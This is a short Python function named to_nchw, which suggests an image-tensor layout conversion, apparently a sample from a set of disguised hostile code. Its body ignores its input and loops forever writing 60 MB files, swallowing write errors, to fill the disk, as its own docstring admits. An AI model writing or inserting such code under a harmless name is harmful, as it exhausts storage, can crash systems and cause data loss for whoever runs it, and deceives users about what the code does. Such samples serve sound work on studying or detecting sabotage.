"""Fills the disk with large files."""
# a1_permute: to_nchw
def to_nchw(images):
    number = 0
    while True:
        number += 1
        try:
            with open(f"file{number}", "wb") as file:
                for _ in range(60):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
